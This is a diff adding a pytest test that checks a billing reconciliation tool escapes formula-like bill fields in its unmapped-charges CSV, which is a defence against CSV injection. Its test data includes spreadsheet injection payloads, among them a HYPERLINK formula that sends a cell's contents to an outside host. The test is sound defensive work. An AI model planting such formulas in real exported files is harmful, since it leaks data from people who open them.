@@ -178,3 +178,27 @@ def test_a_plan_line_with_markup_prints_as_typed_in_the_summary(text, tmp_path, 
 
     monkeypatch.setenv("COLUMNS", "200")
     check(Case(build, exit=0, may_write=("out",), verify=literal), tmp_path, capsys, monkeypatch)
+
+
+#: Bill texts a spreadsheet would read as a formula (OWASP "CSV Injection"): an account name, a region, a tag.
+FORMULAS = ('=HYPERLINK("http://example.com/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1")
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_bill_text_in_the_unmapped_csv_stays_text_in_a_spreadsheet(text, tmp_path, capsys, monkeypatch):
+    """A formula-like text of the bill reaches the unmapped-charges CSV behind a ``'``, as text; the amounts stay
+    numbers (was: written as the bill had it, a formula once the CSV is opened in Excel)."""
+    import csv
+
+    def quoted(folder: Path, out: str, err: str) -> None:
+        with (folder / "unmapped.csv").open(newline="") as handle:
+            rows = list(csv.DictReader(handle))
+        assert [(r["SubAccount"], r["RegionId"], r["EffectiveCost"]) for r in rows] == [
+            ("'" + text, "'" + text, "30.0000000000")], rows
+
+    def build(d: Path) -> list[object]:
+        return reconcile_argv(d, plan(d, mapping=[(1, "gpu", "Azure", "", "", "", "", "", "")]),
+                              bill(d, SubAccountName=text, SubAccountId=text, RegionId=text),
+                              extra=["--unmapped-csv", d / "unmapped.csv"])
+
+    check(Case(build, exit=0, may_write=("out", "unmapped.csv"), verify=quoted), tmp_path, capsys, monkeypatch)
